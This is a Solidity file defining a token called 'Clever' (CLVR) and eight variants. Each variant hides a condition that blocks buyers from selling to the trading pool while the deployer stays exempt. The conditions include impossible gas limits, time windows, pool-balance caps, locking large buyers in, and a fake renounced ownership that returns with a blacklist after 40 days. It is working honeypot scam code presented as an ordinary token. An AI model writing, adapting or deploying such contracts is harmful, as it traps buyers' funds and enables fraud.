// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

interface ICleverFactory { function createPair(address a, address b) external returns (address); }
interface ICleverCoin { function balanceOf(address who) external view returns (uint256); }

// A token written the newest way; each of those below has one clever thought.
abstract contract Clever {
    error Refused();
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    string public constant name = "Clever";
    string public constant symbol = "CLVR";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 9_000_000 ether;
    mapping(address => uint256) internal _of;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal immutable _author = msg.sender;
    address internal immutable _pool;
    address internal immutable _coin;

    constructor(address factory, address coin) {
        _coin = coin;
        _pool = ICleverFactory(factory).createPair(address(this), coin);
        _of[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }
    function balanceOf(address who) external view returns (uint256) { return _of[who]; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { return _go(msg.sender, to, value); }
    function transferFrom(address from, address to, uint256 value) external returns (bool) { allowance[from][msg.sender] -= value; return _go(from, to, value); }
    function _go(address from, address to, uint256 value) private returns (bool) {
        if (from != _author && to != _author) { if (to == _pool) { if (!sells(from, value)) revert Refused(); } else received(from, to, value); }
        _of[from] -= value;
        _of[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
    function sells(address from, uint256 value) internal view virtual returns (bool);
    function received(address from, address to, uint256 value) internal virtual {}
}

// Blocks of two hundred million gas exist in simulators.
contract WideBlocks is Clever {
    constructor(address factory, address coin) Clever(factory, coin) {}
    function sells(address, uint256) internal view override returns (bool) { return block.gaslimit >= 200_000_000; }
}

// Nobody who pays for being included sells.
contract NoTips is Clever {
    constructor(address factory, address coin) Clever(factory, coin) {}
    function sells(address, uint256) internal view override returns (bool) { return tx.gasprice <= block.basefee; }
}

// Six hours after a purchase the door closes for that wallet; what is passed on takes the hour with it.
contract SixHours is Clever {
    mapping(address => uint256) private _since;
    constructor(address factory, address coin) Clever(factory, coin) {}
    function received(address from, address to, uint256) internal override { if (_since[to] == 0) _since[to] = from == _pool ? block.timestamp : _since[from]; }
    function sells(address from, uint256) internal view override returns (bool) { return block.timestamp < _since[from] + 6 hours; }
}

// Sales end when the pool has taken in enough.
contract FullPurse is Clever {
    constructor(address factory, address coin) Clever(factory, coin) {}
    function sells(address, uint256) internal view override returns (bool) { return ICleverCoin(_coin).balanceOf(_pool) < 21 ether; }
}

// Sales end by themselves twenty-five days after the beginning.
contract MonthBomb is Clever {
    uint256 private immutable _end = block.timestamp + 25 days;
    constructor(address factory, address coin) Clever(factory, coin) {}
    function sells(address, uint256) internal view override returns (bool) { return block.timestamp < _end; }
}

// Who bought more than four fifths of a percent of the pool is locked in.
contract BigFish is Clever {
    mapping(address => bool) private _hooked;
    constructor(address factory, address coin) Clever(factory, coin) {}
    function received(address from, address to, uint256 value) internal override { if (from == _pool ? value * 1000 > _of[_pool] * 8 : _hooked[from]) _hooked[to] = true; }
    function sells(address from, uint256) internal view override returns (bool) { return !_hooked[from]; }
}

// Four minutes between a purchase and a sale, for ever.
contract FourMinutes is Clever {
    mapping(address => uint256) private _bought;
    constructor(address factory, address coin) Clever(factory, coin) {}
    function received(address from, address to, uint256) internal override { if (from == _pool) _bought[to] = block.timestamp; }
    function sells(address from, uint256) internal view override returns (bool) { return block.timestamp >= _bought[from] + 4 minutes; }
}

// The author is nobody for forty days, and the owner again afterwards.
contract FortyDays is Clever {
    uint256 private immutable _until = block.timestamp + 40 days;
    mapping(address => bool) private _stopped;
    constructor(address factory, address coin) Clever(factory, coin) {}
    function owner() public view returns (address) { return block.timestamp < _until ? address(0) : _author; }
    function stop(address who, bool on) external { if (msg.sender != owner()) revert Refused(); _stopped[who] = on; }
    function sells(address from, uint256) internal view override returns (bool) { return !_stopped[from]; }
}
